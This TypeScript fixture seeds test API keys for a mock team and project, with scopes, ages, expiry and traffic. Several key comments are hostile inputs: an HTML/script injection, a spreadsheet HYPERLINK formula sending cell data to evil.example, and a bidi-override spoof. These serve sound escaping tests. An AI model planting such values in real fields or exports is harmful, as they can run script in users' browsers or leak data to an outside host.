import { secretOf } from '../world/ids';
import type { PEOPLE } from './small-people';

export interface SeedKey {
  id: string;
  secret: string;
  by: keyof typeof PEOPLE;
  comment: string;
  scopes: string[];
  tags?: string[];
  /** Days, and parts of days, since it was made. */
  age: number;
  /** Days until it expires; negative: days since it did. */
  expiresIn?: number;
  staysListed?: true;
  /** Requests in any seven whole days, from and to how many days ago; without `to` it goes on. */
  traffic?: { perWeek: number; from: number; to?: number };
}

let count = 0;
const key = (
  by: SeedKey['by'],
  comment: string,
  scopes: string[],
  rest: Omit<SeedKey, 'id' | 'secret' | 'by' | 'comment' | 'scopes'>,
): SeedKey => {
  count += 1;
  const id = `bbbbbbbb-${String(count).padStart(4, '0')}-4bbb-8bbb-${String(count).padStart(12, '0')}`;
  return { id, secret: secretOf(id), by, comment, scopes, ...rest };
};

const sees = ['project:read', 'keys:read', 'members:read', 'admins:read', 'owners:read'];
const sends = ['usage:write'];
const minute = 1 / 1440;
/** The Console's own name for the keys that its Playground makes. */
const PLAYGROUND = 'Auto-generated Playground API key';

/** Every key of the small team, by the state it shows. Ids follow the order here: append, don't insert. */
export const KEYS = {
  // Tomás: in use; role-capped since he is an Admin; quiet.
  ingest: key('tomas', 'Production - ingest', [], {
    age: 90,
    tags: ['production'],
    traffic: { perWeek: 8210, from: 90 },
  }),
  roleCapped: key('tomas', 'ci', ['owner'], { age: 200, traffic: { perWeek: 4270, from: 95 } }),
  staging: key('tomas', 'staging', ['member'], { age: 150, traffic: { perWeek: 310, from: 120, to: 38 } }),
  // Ana: both keys quiet for four whole days.
  prototype: key('ana', 'prototype', ['member'], { age: 70, traffic: { perWeek: 630, from: 60, to: 5 } }),
  voiceNotes: key('ana', 'voice notes', sends, { age: 65, traffic: { perWeek: 140, from: 55, to: 5 } }),
  monthly: key('kofi', 'monthly report', ['member'], { age: 420 }),
  unused: key('ida', 'old demo', [], { age: 300, traffic: { perWeek: 70, from: 180, to: 94 } }),
  // The service account: six busy keys.
  botListen: key('bot', 'listen eu-1', sends, {
    age: 220,
    tags: ['production', 'eu'],
    traffic: { perWeek: 14000, from: 100 },
  }),
  botListen2: key('bot', 'listen eu-2', sends, {
    age: 220,
    tags: ['production', 'eu'],
    traffic: { perWeek: 9800, from: 100 },
  }),
  botSpeak: key('bot', 'speak', sends, { age: 180, tags: ['production'], traffic: { perWeek: 5600, from: 100 } }),
  botAgent: key('bot', 'agent', ['member'], { age: 120, tags: ['production'], traffic: { perWeek: 3500, from: 100 } }),
  botRead: key('bot', 'read', sends, { age: 110, tags: ['batch'], traffic: { perWeek: 1400, from: 100 } }),
  /** Admin role: sees all, may write. */
  admin: key('bot', 'linchpin', ['admin'], { age: 30, tags: ['tooling'], traffic: { perWeek: 720, from: 30 } }),
  // Sam and Sam: nothing tells `test` from `test`; `backend` is told apart by its creator's address alone.
  testOne: key('sam', 'test', ['member'], { age: 12, traffic: { perWeek: 35, from: 12 } }),
  testTwo: key('sam', 'test', ['member'], { age: 12 }),
  samBackend: key('sam', 'backend', sends, { age: 40, traffic: { perWeek: 210, from: 40 } }),
  otherSamBackend: key('otherSam', 'backend', sends, { age: 41, traffic: { perWeek: 490, from: 40 } }),
  neverUsed: key('otherSam', 'placeholder', ['member'], { age: 50 }),
  // Noor: expiring with traffic, a plain member key, expired ones.
  expiresSoon: key('noor', 'soon gone', ['member'], { age: 87, expiresIn: 3, traffic: { perWeek: 240, from: 87 } }),
  member: key('noor', 'mobile app', ['member'], { age: 75, tags: ['mobile'], traffic: { perWeek: 12240, from: 75 } }),
  expired: key('noor', 'spring campaign', ['member'], {
    age: 100,
    expiresIn: -10,
    traffic: { perWeek: 350, from: 99, to: 10 },
  }),
  // Comments that try something.
  html: key('long', '<img src=x onerror="alert(1)"><script>alert(2)</script>', sends, { age: 33 }),
  formula: key('long', '=HYPERLINK("https://evil.example/?"&A1,"Click")', sends, { age: 32 }),
  bidi: key('long', '\u202Egnp.yek\u202C \u2066safe\u2069', sends, { age: 31 }),
  longest: key('long', 'long-'.repeat(26).slice(0, 128), sends, { age: 30, traffic: { perWeek: 77, from: 29 } }),
  emoji: key('nameless', '🚀 launch 👩‍👩‍👧‍👦 🎙️', sends, { age: 29, traffic: { perWeek: 56, from: 28 } }),
  likeAddress: key('nameless', 'maya@northwind.example', sends, { age: 28 }),
  likeRole: key('nameless', 'Member', sends, { age: 27, traffic: { perWeek: 84, from: 26 } }),
  likeName: key('noor', 'Maya Iyer', sends, { age: 26 }),
  empty: key('nameless', '', sends, { age: 25, traffic: { perWeek: 63, from: 24 } }),
  spaces: key('nameless', '  double  inner   spaces  ', sends, { age: 24 }),
  // Made by a Console helper for five minutes each (docs/deepgram/console.md 2).
  temporaryOne: key('maya', 'Console Agent Widget', ['member'], {
    age: 2,
    expiresIn: -2 + 5 * minute,
    tags: ['console-agent'],
  }),
  temporaryTwo: key('maya', 'Console Agent Widget', ['member'], {
    age: 1,
    expiresIn: -1 + 5 * minute,
    tags: ['console-agent'],
  }),
  // Maya's keys for tools: the least that sees all, and less than that.
  least: key('maya', 'linchpin, least scopes', [...sees, 'usage:read', 'billing:read'], { age: 20 }),
  withoutCost: key('maya', 'linchpin, no cost', [...sees, 'usage:read'], { age: 19 }),
  withoutUsage: key('maya', 'linchpin, no usage', [...sees, 'billing:read'], { age: 18 }),
  /** Its creator has left. */
  orphan: key('left', 'left behind', [], { age: 210, staysListed: true, traffic: { perWeek: 420, from: 110, to: 9 } }),
  /** Deleted: only its accessor is left, in usage. */
  deleted: key('tomas', 'legacy importer', ['member'], { age: 320, traffic: { perWeek: 560, from: 100, to: 3 } }),
  /** The least, and invites too, whose scopes are named apart (docs/deepgram/api.md 3.3). */
  leastWithInvites: key(
    'maya',
    'linchpin, with invites',
    [...sees, 'members:read:invites', 'admins:read:invites', 'owners:read:invites', 'usage:read', 'billing:read'],
    { age: 17 },
  ),
  // What opening the Playground leaves behind: about eight hours each, several a day (docs/deepgram/console-2026.md
  // A2).
  playground: key('maya', PLAYGROUND, [], { age: 70 * minute, expiresIn: 410 * minute }),
  playgroundAgain: key('maya', PLAYGROUND, [], { age: 25 * minute, expiresIn: 455 * minute }),
  playgroundJustNow: key('maya', PLAYGROUND, [], { age: minute / 2, expiresIn: 479.5 * minute }),
  playgroundYesterday: key('maya', PLAYGROUND, [], { age: 1440 * minute, expiresIn: -960 * minute }),
} as const satisfies Record<string, SeedKey>;

/** The second project's keys. */
export const SANDBOX_KEYS = {
  sandbox: key('maya', 'sandbox admin', ['admin'], { age: 15, traffic: { perWeek: 42, from: 14 } }),
  sandboxMember: key('sam', 'playing around', ['member'], { age: 9, traffic: { perWeek: 14, from: 8 } }),
} as const satisfies Record<string, SeedKey>;
